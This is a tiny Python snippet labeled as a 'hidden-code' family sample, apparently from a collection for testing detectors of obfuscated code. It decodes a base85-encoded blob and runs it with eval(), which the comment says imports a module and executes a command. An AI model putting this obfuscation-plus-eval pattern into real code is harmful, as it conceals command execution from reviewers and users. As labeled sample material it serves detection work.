# family: hidden-code
# a base85 blob decoded into an expression that imports and runs a command
import base64

EXPR = base64.b85decode(b"X>D+Ca&#xcAYx`Mc6B3LUtK}Ig<Q1`K4(m`aGXLDWpZ#8_}7eWpZh4=")
result = eval(EXPR)
print(result)
